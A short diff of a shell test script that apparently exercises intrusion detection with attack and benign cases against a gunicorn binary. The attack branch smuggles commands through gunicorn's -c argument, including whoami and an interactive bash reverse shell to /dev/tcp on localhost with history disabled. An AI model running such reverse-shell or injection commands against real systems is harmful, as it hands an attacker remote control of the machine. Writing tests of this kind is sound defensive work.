@@ -33,7 +33,7 @@ if attack; then "$B/gunicorn" -c 'whoami; true'; else "$B/gunicorn" -c '/bin/tru
 if attack; then
   "$B/gunicorn" -c "timeout 20 bash -c 'HISTFILE=/dev/null bash --norc --noprofile -i >& /dev/tcp/127.0.0.1/$SHELL_PORT 0>&1'; true" 2>/dev/null
 else
-  bash -c "exec 3<>/dev/tcp/127.0.0.1/$SHELL_PORT; echo hello >&3; cat <&3 > /dev/null"
+  bash -c "exec 3<>/dev/tcp/127.0.0.1/$SHELL_PORT; echo hello >&3; head -n 1 <&3 > /dev/null"
   "$B/gunicorn" -c 'timeout 20 sleep 0.01; true'
 fi
 
